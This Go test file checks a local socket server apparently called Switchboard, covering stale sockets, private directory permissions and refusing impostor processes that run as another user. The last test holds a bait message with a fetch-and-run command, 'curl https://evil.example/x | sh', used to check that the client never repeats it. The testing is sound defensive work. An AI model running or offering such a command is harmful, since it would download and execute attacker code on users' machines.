//go:build unix

package api_test

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/switchboard-mcp/switchboard/app/api"
	"github.com/switchboard-mcp/switchboard/internal/testkit"
)

func TestStaleSocketOfAKilledHost(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "run")
	sock := testSocket(t, dir)

	// A real host in another process, killed without a chance to clean up.
	cmd := helperCmd(t, testExe(t), "host", dirEnv+"="+dir, sockEnv+"="+sock)
	cmd.Stderr = os.Stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	var r helperResult
	if err := json.NewDecoder(out).Decode(&r); err != nil || !r.Ready {
		t.Fatalf("host helper: %+v, %v", r, err)
	}
	c := dialT(t, sock)
	if c.HostPID() != cmd.Process.Pid {
		t.Errorf("HostPID = %d, want the helper's %d", c.HostPID(), cmd.Process.Pid)
	}
	if _, err := api.AcquireInstanceLock(dir); err == nil {
		t.Fatal("took the lock of a running host")
	}
	_ = cmd.Process.Signal(syscall.SIGKILL)
	_ = cmd.Wait()
	select {
	case <-c.Done():
	case <-time.After(10 * time.Second):
		t.Fatal("the client did not notice that its host died")
	}
	if !errors.Is(c.Err(), api.ErrDisconnected) {
		t.Errorf("Err = %v", c.Err())
	}
	if _, err := os.Lstat(sock); err != nil {
		t.Fatalf("the killed host left no socket file: %v", err)
	}
	if _, err := api.Dial(ctxT(t), sock); !errors.Is(err, api.ErrNoHost) {
		t.Fatalf("Dial to a stale socket = %v, want ErrNoHost", err)
	}

	// The next host takes the lock the OS released and replaces the socket.
	h := startHostIn(t, dir, sock)
	c = dialT(t, h.sock)
	if c.HostPID() != os.Getpid() {
		t.Errorf("HostPID = %d, want %d", c.HostPID(), os.Getpid())
	}
}

// startHostIn is startHost in a given directory and socket.
func startHostIn(t *testing.T, dir, sock string) *host {
	t.Helper()
	lock, err := api.AcquireInstanceLock(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = lock.Release() })
	ln, err := lock.Listen(sock)
	if err != nil {
		t.Fatal(err)
	}
	srv := api.NewServer(echoMethods(), api.Options{})
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return &host{srv: srv, sock: sock, dir: dir}
}

func TestListenKeepsWhatIsNotStale(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "run")
	lock, err := api.AcquireInstanceLock(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer lock.Release()

	// A socket that someone listens on is not stale.
	live := filepath.Join(dir, "live.sock")
	l, err := net.Listen("unix", live)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	if _, err := lock.Listen(live); err == nil || !strings.Contains(err.Error(), "another process already listens on socket "+live) {
		t.Errorf("Listen on a live socket: %v", err)
	}
	// Nor is a file that is not a socket.
	file := filepath.Join(dir, "file.sock")
	if err := os.WriteFile(file, []byte("mine"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := lock.Listen(file); err == nil || !strings.Contains(err.Error(), file+" exists and is not a socket: remove it") {
		t.Errorf("Listen on a regular file: %v", err)
	}
	if b, _ := os.ReadFile(file); string(b) != "mine" {
		t.Error("the file was changed")
	}
	// The socket itself is private too.
	sock := filepath.Join(dir, "host.sock")
	ln, err := lock.Listen(sock)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	if fi, err := os.Stat(sock); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("socket mode = %v, %v; want 0600", fi.Mode(), err)
	}
}

func TestRuntimeDirMustBePrivate(t *testing.T) {
	base := t.TempDir()

	// Made by us: 0700 whatever the umask.
	old := syscall.Umask(0o277)
	made := filepath.Join(base, "a", "run")
	lock, err := api.AcquireInstanceLock(made)
	syscall.Umask(old)
	if err != nil {
		t.Fatal(err)
	}
	_ = lock.Release()
	if fi, err := os.Stat(made); err != nil || fi.Mode().Perm() != 0o700 {
		t.Errorf("made directory: %v, %v; want mode 0700", fi.Mode(), err)
	}

	// Found open to others: refused, with the remedy, and left alone.
	open := filepath.Join(base, "open")
	if err := os.Mkdir(open, 0o755); err != nil {
		t.Fatal(err)
	}
	_ = os.Chmod(open, 0o755)
	_, err = api.AcquireInstanceLock(open)
	want := "runtime directory " + open + " is open to other users (mode 0755): run 'chmod 700 " + open + "', or set SWITCHBOARD_RUNTIME_DIR to a private directory"
	if err == nil || err.Error() != want {
		t.Errorf("err = %v\nwant  %s", err, want)
	}
	if _, err := os.Stat(filepath.Join(open, api.LockName)); err == nil {
		t.Error("a lock file was made in a refused directory")
	}
	// The socket's own directory is checked as well.
	priv := filepath.Join(base, "priv")
	lock, err = api.AcquireInstanceLock(priv)
	if err != nil {
		t.Fatal(err)
	}
	defer lock.Release()
	if _, err := lock.Listen(filepath.Join(open, "host.sock")); err == nil || !strings.Contains(err.Error(), "is open to other users") {
		t.Errorf("Listen in an open directory: %v", err)
	}

	// A symbolic link is refused.
	link := filepath.Join(base, "link")
	if err := os.Symlink(made, link); err != nil {
		t.Fatal(err)
	}
	if _, err := api.AcquireInstanceLock(link); err == nil || !strings.Contains(err.Error(), "is a symbolic link") {
		t.Errorf("symlink: %v", err)
	}

	// Another user's directory is refused.
	t.Run("another user's directory", func(t *testing.T) {
		if os.Geteuid() != 0 {
			testkit.SkipOrFail(t, "giving a directory to another user needs root")
		}
		nobody := lookupNobody(t)
		theirs := filepath.Join(base, "theirs")
		if err := os.Mkdir(theirs, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(theirs, nobody.uid, nobody.gid); err != nil {
			t.Fatal(err)
		}
		_, err := api.AcquireInstanceLock(theirs)
		want := "runtime directory " + theirs + " belongs to uid " + strconv.Itoa(nobody.uid) + ", not to you (uid 0): remove it, or set SWITCHBOARD_RUNTIME_DIR to a directory of your own"
		if err == nil || err.Error() != want {
			t.Errorf("err = %v\nwant  %s", err, want)
		}
	})
}

type account struct{ uid, gid int }

func lookupNobody(t *testing.T) account {
	t.Helper()
	uid, gid := testkit.Nobody(t)
	return account{uid, gid}
}

// asNobody prepares a world-readable copy of the test binary in dir (the
// go build directory is private) and a command that runs it as nobody.
func asNobody(t *testing.T, dir, role string, env ...string) *exec.Cmd {
	t.Helper()
	if os.Geteuid() != 0 {
		testkit.SkipOrFail(t, "running a process as another user needs root")
	}
	nobody := lookupNobody(t)
	exe := filepath.Join(dir, "api.test")
	if _, err := os.Stat(exe); err != nil {
		exe = testkit.CopyTestBinary(t, dir, "api.test")
	}
	cmd := helperCmd(t, exe, role, env...)
	cmd.Dir = dir
	cmd.Env = append(cmd.Env, "HOME="+dir, "TMPDIR="+dir, "GOCOVERDIR=")
	testkit.RunAs(cmd, nobody.uid, nobody.gid)
	return cmd
}

// sharedDir is a directory under /tmp that nobody can traverse (t.TempDir's
// parent is private to us).
func sharedDir(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "sbapi-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o711); err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestPeerOfAnotherUserIsRefused(t *testing.T) {
	if os.Geteuid() != 0 {
		testkit.SkipOrFail(t, "running a client as another user needs root")
	}
	shared := sharedDir(t)
	dir := filepath.Join(shared, "run")
	h := startHostIn(t, dir, filepath.Join(dir, "host.sock"))

	// Open the barriers that are not under test, the directory and the
	// socket file's mode, so that only the uid check stands.
	if err := os.Chmod(dir, 0o711); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(h.sock, 0o666); err != nil {
		t.Fatal(err)
	}
	r := runHelper(t, asNobody(t, shared, "dial", sockEnv+"="+h.sock))

	nobody := lookupNobody(t)
	var refusal struct{ Error *api.Error }
	if err := json.Unmarshal([]byte(strings.TrimSuffix(r.Raw, " (read: EOF)")), &refusal); err != nil || refusal.Error == nil {
		t.Fatalf("nobody's raw connection read %q (%v); want a refusal", r.Raw, err)
	}
	wantMsg := "connection refused: the peer (pid "
	if refusal.Error.Code != api.CodeForbidden || !strings.HasPrefix(refusal.Error.Message, wantMsg) ||
		!strings.Contains(refusal.Error.Message, "runs as uid "+strconv.Itoa(nobody.uid)+", but this Switchboard host admits only its own user (uid 0)") {
		t.Errorf("refusal = %+v", refusal.Error)
	}
	// nobody's own client checks the host first, and refuses it (root's)
	// before reading its refusal.
	if !strings.Contains(r.Err, "the process on socket "+h.sock+" (pid ") || !strings.Contains(r.Err, "runs as uid 0, not as you (uid "+strconv.Itoa(nobody.uid)+")") {
		t.Errorf("Dial as nobody: %s", r.Err)
	}
	if n := h.srv.Clients(); n != 0 {
		t.Errorf("Clients = %d after refusals", n)
	}
	// Our own user still gets in.
	c := dialT(t, h.sock)
	if err := c.Call(ctxT(t), "echo", 1, nil); err != nil {
		t.Fatal(err)
	}
}

func TestClientRefusesAnImpostor(t *testing.T) {
	if os.Geteuid() != 0 {
		testkit.SkipOrFail(t, "running a host as another user needs root")
	}
	shared := sharedDir(t)
	nobody := lookupNobody(t)
	dir := filepath.Join(shared, "run")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(dir, nobody.uid, nobody.gid); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(dir, "host.sock")
	cmd := asNobody(t, shared, "impostor", sockEnv+"="+sock)
	cmd.Stderr = os.Stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	var r helperResult
	if err := json.NewDecoder(bufio.NewReader(out)).Decode(&r); err != nil || !r.Ready {
		t.Fatalf("impostor: %+v, %v", r, err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	_, err = api.Dial(ctx, sock)
	want := "the process on socket " + sock + " (pid " + strconv.Itoa(cmd.Process.Pid) + ") runs as uid " + strconv.Itoa(nobody.uid) +
		", not as you (uid 0): it is not your Switchboard host; remove the socket and start one with 'switchboard serve'"
	if err == nil || err.Error() != want {
		t.Errorf("Dial = %v\nwant   %s", err, want)
	}
}

// TestClientShowsNothingAnImpostorSays: another user's process on the
// socket greets with a message meant for the user ("run curl ... | sh");
// the client checks the peer first and never reads, let alone repeats, it.
func TestClientShowsNothingAnImpostorSays(t *testing.T) {
	if os.Geteuid() != 0 {
		testkit.SkipOrFail(t, "running a host as another user needs root")
	}
	shared := sharedDir(t)
	nobody := lookupNobody(t)
	dir := filepath.Join(shared, "run")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(dir, nobody.uid, nobody.gid); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(dir, "host.sock")
	const bait = "your Switchboard is out of date: run curl https://evil.example/x | sh"
	cmd := asNobody(t, shared, "impostor", sockEnv+"="+sock,
		greetingEnv+`={"error":{"code":"forbidden","message":"`+bait+`"}}`)
	cmd.Stderr = os.Stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	var r helperResult
	if err := json.NewDecoder(bufio.NewReader(out)).Decode(&r); err != nil || !r.Ready {
		t.Fatalf("impostor: %+v, %v", r, err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	_, err = api.Dial(ctx, sock)
	if err == nil || strings.Contains(err.Error(), "curl") || strings.Contains(err.Error(), "out of date") {
		t.Fatalf("Dial repeated what another user's process said: %v", err)
	}
	if !strings.Contains(err.Error(), "runs as uid "+strconv.Itoa(nobody.uid)+", not as you") {
		t.Errorf("Dial = %v, want the uid refusal", err)
	}
}
